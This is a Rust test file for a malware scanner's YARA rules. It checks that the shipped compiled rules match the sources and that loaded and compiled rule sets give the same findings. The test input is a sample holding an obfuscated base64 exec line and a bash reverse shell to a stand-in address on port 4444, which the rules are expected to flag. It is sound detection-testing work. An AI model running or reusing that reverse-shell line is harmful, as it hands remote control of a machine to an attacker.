//! The compiled rules that the build carries are what the sources compile to. With `PICKET_UPDATE_RULES=1` the test writes them.

use picket_artifact::{ScanOptions, scan};
use picket_yara::{Limits, Pack, RuleSet, built_in, prebuild, prebuilt};
use std::path::Path;
use std::sync::Arc;
use std::{env, fs};

/// Small, because it is in the tree's history at every change of a rule; the time to read it does not depend on it.
const ZSTD_LEVEL: i32 = 19;

#[test]
fn what_the_build_carries_is_what_the_sources_compile_to() {
    let compiled = prebuild().unwrap();
    if env::var_os("PICKET_UPDATE_RULES").is_some() {
        let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("src/built_in.rules.zst");
        fs::write(path, zstd::encode_all(compiled.as_slice(), ZSTD_LEVEL).unwrap()).unwrap();
        return;
    }
    assert!(prebuilt() == compiled, "crates/yara/src/built_in.rules.zst is out of step: run PICKET_UPDATE_RULES=1 cargo test --workspace --test yara_prebuilt");
}

#[test]
fn loaded_rules_find_what_compiled_rules_find() {
    // One pack more makes another set, which is compiled.
    let mut packs = built_in();
    packs.push(Pack::new("own.yar", "rule never { condition: false }"));
    let [loaded, compiled] = [built_in(), packs].map(|packs| RuleSet::compile(&packs, Limits::default()).unwrap());
    assert_eq!(loaded.len() + 1, compiled.len());
    assert_ne!(loaded.identity(), compiled.identity());
    let text: &[u8] = b"import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n";
    let found = [loaded, compiled].map(|rules| {
        let options = ScanOptions { region_rules: Some(Arc::new(rules)), ..ScanOptions::default() };
        let report = scan(&text, "notes.txt", &options);
        report.findings.into_iter().map(|finding| format!("{} {:?} {}", finding.rule_id, finding.evidence.offset, finding.explanation)).collect::<Vec<_>>()
    });
    let [loaded, compiled] = found;
    assert_eq!(loaded, compiled);
    assert!(
        loaded.iter().any(|finding| finding.starts_with("PICKET-YAR-020")) && loaded.iter().any(|finding| finding.starts_with("PICKET-YAR-030")),
        "{loaded:?}"
    );
}
